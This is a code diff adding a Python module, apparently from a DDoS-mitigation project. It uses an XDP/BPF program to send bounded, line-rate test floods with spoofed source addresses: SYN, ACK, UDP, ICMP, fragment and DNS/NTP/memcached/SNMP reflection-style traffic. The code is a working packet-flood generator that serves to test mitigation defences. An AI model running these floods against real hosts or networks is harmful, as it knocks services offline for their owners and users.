@@ -1,0 +1,194 @@
+"""`edgewarden flood`: attack floods at line rate from one machine. A small
+XDP program (bpf/flood_gen.bpf.c), run with BPF_PROG_RUN in live-frames mode
+from several threads, turns a template frame into frames transmitted out of
+the attacker's interface with random sources from a prefix and per-packet
+port variation. Always bounded in packets and seconds."""
+
+from __future__ import annotations
+
+import fcntl
+import ipaddress
+import socket
+import struct
+import threading
+import time
+from dataclasses import dataclass
+from importlib import resources
+from pathlib import Path
+
+from agent._libbpf import ffi, lib
+from agent.datapath.syscalls import BpfError, BpfMap, check
+
+IPPROTO_ICMP, IPPROTO_TCP, IPPROTO_UDP = 1, 6, 17
+TCP_SYN, TCP_ACK = 0x02, 0x10
+RUN_CHUNK = 65536          # repetitions per BPF_PROG_RUN call: bounds each call's duration
+
+
+@dataclass(frozen=True)
+class FloodType:
+    """A template and which fields vary per packet."""
+
+    description: str
+    proto: int
+    sport: int | None = None          # fixed source port (reflection), None: random
+    tcp_flags: int = 0
+    payload_size: int = 0
+    fragment: bool = False
+
+
+FLOOD_TYPES: dict[str, FloodType] = {
+    "syn": FloodType("TCP SYN flood, random spoofed sources and ports", IPPROTO_TCP, tcp_flags=TCP_SYN),
+    "synack": FloodType("TCP SYN-ACK reflection from port 80", IPPROTO_TCP, sport=80, tcp_flags=TCP_SYN | TCP_ACK),
+    "ack": FloodType("TCP ACK flood", IPPROTO_TCP, tcp_flags=TCP_ACK),
+    "udp": FloodType("UDP flood, random ports", IPPROTO_UDP, payload_size=64),
+    "dns": FloodType("DNS amplification responses (from port 53)", IPPROTO_UDP, sport=53, payload_size=1200),
+    "ntp": FloodType("NTP monlist responses (from port 123)", IPPROTO_UDP, sport=123, payload_size=440),
+    "memcached": FloodType("memcached amplification (from port 11211)", IPPROTO_UDP, sport=11211, payload_size=1400),
+    "snmp": FloodType("SNMP reflection (from port 161)", IPPROTO_UDP, sport=161, payload_size=400),
+    "icmp": FloodType("ICMP echo flood", IPPROTO_ICMP, payload_size=56),
+    "fragment": FloodType("IPv4 non-first fragments", IPPROTO_UDP, payload_size=1200, fragment=True),
+}
+
+
+def _checksum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def template_frame(kind: FloodType, src_mac: bytes, dst_mac: bytes, target: str, dport: int) -> tuple[bytes, int]:
+    """(frame, L4 bytes the generator checksums: 0 for ICMP and fragments, whose
+    checksums do not cover the fields it changes)."""
+    payload = bytes((i * 7) & 0xFF for i in range(kind.payload_size))
+    if kind.proto == IPPROTO_TCP:
+        mss = b"\x02\x04\x05\xb4" if kind.tcp_flags & TCP_SYN else b""
+        header_len = 20 + len(mss)
+        l4 = struct.pack("!HHIIBBHHH", kind.sport or 40000, dport, 0, 0, (header_len // 4) << 4,
+                         kind.tcp_flags, 65535, 0, 0) + mss
+    elif kind.proto == IPPROTO_UDP:
+        l4 = struct.pack("!HHHH", kind.sport or 40000, dport, 8 + len(payload), 0) + payload
+    else:
+        body = struct.pack("!BBHHH", 8, 0, 0, 0x4557, 1) + payload
+        l4 = body[:2] + struct.pack("!H", _checksum(body)) + body[4:]
+    frag_field = 185 if kind.fragment else 0x4000         # a non-first fragment, or DF
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, frag_field, 64, kind.proto, 0,
+                     ipaddress.IPv4Address("0.0.0.0").packed, ipaddress.IPv4Address(target).packed)
+    checksummed = 0 if kind.proto == IPPROTO_ICMP or kind.fragment else len(l4)
+    if checksummed % 4:            # the generator sums whole words: pad the segment
+        pad = 4 - checksummed % 4
+        l4 += bytes(pad)
+        checksummed += pad
+        ip = ip[:2] + struct.pack("!H", 20 + len(l4)) + ip[4:]
+        if kind.proto == IPPROTO_UDP:
+            l4 = l4[:4] + struct.pack("!H", len(l4)) + l4[6:]
+    return dst_mac + src_mac + b"\x08\x00" + ip + l4, checksummed
+
+
+@dataclass
+class FloodResult:
+    kind: str
+    packets: int
+    seconds: float
+    threads: int
+
+    @property
+    def pps(self) -> float:
+        return self.packets / self.seconds if self.seconds else 0.0
+
+
+class FloodGenerator:
+    """The generator program with its config and counter maps."""
+
+    def __init__(self):
+        path = Path(str(resources.files("agent.datapath") / "flood_gen.bpf.o"))
+        self._obj = lib.bpf_object__open_file(str(path).encode(), ffi.NULL)
+        if self._obj == ffi.NULL:
+            raise BpfError(2, f"opening {path} (build the project first)")
+        check(lib.bpf_object__load(self._obj), f"loading {path}")
+        self.prog_fd = lib.bpf_program__fd(lib.bpf_object__find_program_by_name(self._obj, b"flood_gen"))
+        self.config = BpfMap(lib.bpf_map__fd(lib.bpf_object__find_map_by_name(self._obj, b"gen_config")),
+                             "gen_config", "__u32", "char[20]", owns_fd=False)
+        self.sent = BpfMap(lib.bpf_map__fd(lib.bpf_object__find_map_by_name(self._obj, b"gen_sent")),
+                           "gen_sent", "__u32", "__u64", percpu=True, owns_fd=False)
+
+    def close(self) -> None:
+        if self._obj is not None:
+            lib.bpf_object__close(self._obj)
+            self._obj = None
+
+    def __enter__(self) -> "FloodGenerator":
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self.close()
+
+    def configure(self, source: ipaddress.IPv4Network, kind: FloodType, l4_length: int,
+                  dport_span: tuple[int, int] | None) -> None:
+        sport = (1024, 64511) if kind.sport is None and kind.proto != IPPROTO_ICMP and not kind.fragment else (0, 0)
+        dport = dport_span or (0, 0)
+        self.config.update(b"\0\0\0\0", struct.pack("=IIHHHHI", int(source.network_address), int(source.hostmask),
+                                                    sport[0], sport[1], dport[0], dport[1], l4_length))
+
+    def sent_total(self) -> int:
+        raw = self.sent.lookup(b"\0\0\0\0")
+        return sum(struct.unpack(f"={len(raw) // 8}Q", raw))
+
+    def run(self, frame: bytes, ifindex: int, packets: int, seconds: float, threads: int) -> tuple[int, float]:
+        """Send until `packets` or `seconds`, whichever first; (sent, elapsed)."""
+        deadline = time.monotonic() + seconds
+        budget = [packets]
+        lock = threading.Lock()
+        errors: list[str] = []
+
+        def worker() -> None:
+            while time.monotonic() < deadline:
+                with lock:
+                    chunk = min(RUN_CHUNK, budget[0])
+                    budget[0] -= chunk
+                if chunk <= 0:
+                    return
+                rc = lib.ew_prog_run_live(self.prog_fd, frame, len(frame), ifindex, chunk, 64)
+                if rc < 0:
+                    errors.append(f"BPF_PROG_RUN (live frames): {BpfError(-rc, 'flood').strerror}")
+                    return
+
+        before = self.sent_total()
+        start = time.monotonic()
+        workers = [threading.Thread(target=worker) for _ in range(threads)]
+        for w in workers:
+            w.start()
+        for w in workers:
+            w.join()
+        elapsed = time.monotonic() - start
+        if errors:
+            raise BpfError(5, errors[0])
+        return self.sent_total() - before, elapsed
+
+
+SIOCGIFHWADDR = 0x8927
+
+
+def interface_mac(interface: str) -> bytes:
+    """The interface's MAC in the caller's network namespace (under nsenter
+    --net, /sys/class/net still shows the namespace sysfs was mounted in)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        request = fcntl.ioctl(s.fileno(), SIOCGIFHWADDR, struct.pack("256s", interface.encode()[:15]))
+    return request[18:24]
+
+
+def flood(kind_name: str, interface: str, target: str, dst_mac: str, *, dport: int = 80,
+          dport_range: tuple[int, int] | None = None, source: str = "203.0.113.128/25",
+          packets: int = 1_000_000, seconds: float = 5.0, threads: int = 2) -> FloodResult:
+    kind = FLOOD_TYPES[kind_name]
+    ifindex = socket.if_nametoindex(interface)
+    src_mac = interface_mac(interface)
+    frame, l4_length = template_frame(kind, src_mac, bytes.fromhex(dst_mac.replace(":", "")), target, dport)
+    if dport_range is None and kind.sport is not None:
+        dport_range = (1024, 64511)     # reflected responses land on random client ports
+    with FloodGenerator() as generator:
+        generator.configure(ipaddress.IPv4Network(source), kind, l4_length, dport_range)
+        sent, elapsed = generator.run(frame, ifindex, packets, seconds, threads)
+    return FloodResult(kind_name, sent, elapsed, threads)
